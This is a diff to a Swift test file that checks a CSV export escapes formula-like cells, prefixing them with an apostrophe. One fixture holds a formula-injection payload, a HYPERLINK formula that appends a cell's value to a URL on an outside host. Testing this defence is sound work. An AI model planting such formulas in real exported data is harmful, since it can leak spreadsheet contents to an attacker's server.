@@ -45,7 +45,7 @@ import Testing
         let entity = store.context.model.entities[0].name
         for (text, part) in [
             (Self.hidden, "{\"a\": \"\(Self.hidden.replacing("\u{1B}", with: ""))\"}"), ("plain", "{\"a\": [1, null]}"),
-            ("", "\u{9B}"), ("x", Self.hidden),
+            ("", "\"\u{9B}\""),
         ] {
             store.insert(entity, ["text" + Self.hidden: .text(text), "part": .text(part)])
         }
@@ -100,7 +100,7 @@ import Testing
             [
                 "=name": .text("=HYPERLINK(\"http://example.org/\"&A1)"), "number": .integer(-5),
                 "real": .real(-.infinity),
-                "data": .blob(Data([0xFB, 0xFB, 0xFB])), "part": .text("=1"), "sum": Decimal(-1.5).storedValue,
+                "data": .blob(Data([0xFB, 0xFB, 0xFB])), "part": .text("\"=1\""), "sum": Decimal(-1.5).storedValue,
             ]
         )
         try store.context.save()
@@ -110,7 +110,7 @@ import Testing
         #expect(
             safe == """
                 _id,'=name,number,real,data,part,sum\r
-                1,"'=HYPERLINK(""http://example.org/""&A1)",-5,'-inf,'+/v7,'=1,-1.5\r
+                1,"'=HYPERLINK(""http://example.org/""&A1)",-5,'-inf,'+/v7,\"\"\"'=1\"\"\",-1.5\r
 
                 """
         )
